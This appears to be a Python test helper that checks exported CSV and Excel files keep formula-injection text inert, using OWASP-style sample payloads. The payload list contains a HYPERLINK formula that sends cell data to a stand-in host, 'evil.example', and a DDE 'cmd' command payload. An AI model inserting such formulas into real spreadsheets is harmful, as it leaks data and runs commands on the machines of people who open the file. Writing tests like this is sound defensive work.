"""Text that a spreadsheet would run as a formula, and checks that an exported file keeps it inert."""

from __future__ import annotations

import csv
import io
import re

from openpyxl import load_workbook

# One per dangerous first character (OWASP "CSV Injection"): = + - @ tab and carriage return.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


NUMBER = re.compile(r"-?\d+(\.\d+)?")


def csv_cells(text: str) -> list[list[str]]:
    """Return every cell of a CSV text (BOM tolerated)."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def assert_csv_inert(text: str, expected: list[str] = DANGEROUS) -> list[list[str]]:
    """No cell starts a formula, and each dangerous text is there, prefixed with a quote and otherwise intact."""
    rows = csv_cells(text)
    cells = [cell for row in rows for cell in row]
    # A negative number is written as a number: Excel reads it as one, not as a formula.
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(c)]
    for value in expected:
        assert "'" + value in cells, f"{value!r} missing from the CSV"
    return rows


def xlsx_cells(content) -> dict[str, list[list]]:
    """Return the cells (objects, not values) of every sheet of a workbook given as bytes or a path."""
    book = load_workbook(io.BytesIO(content) if isinstance(content, bytes) else content)
    return {ws.title: [list(row) for row in ws.iter_rows()] for ws in book.worksheets}


def assert_xlsx_inert(content, expected: list[str] = DANGEROUS) -> dict[str, list[list]]:
    """No formula cell anywhere; each dangerous text is a string cell, intact, shown with a quote prefix."""
    sheets = xlsx_cells(content)
    cells = [cell for rows in sheets.values() for row in rows for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    for value in expected:
        # XML reads a bare carriage return back as a line feed; the cell is still the typed text.
        found = [cell for cell in cells if cell.value == value.replace("\r", "\n")]
        assert found, f"{value!r} missing from the workbook"
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)
    return sheets
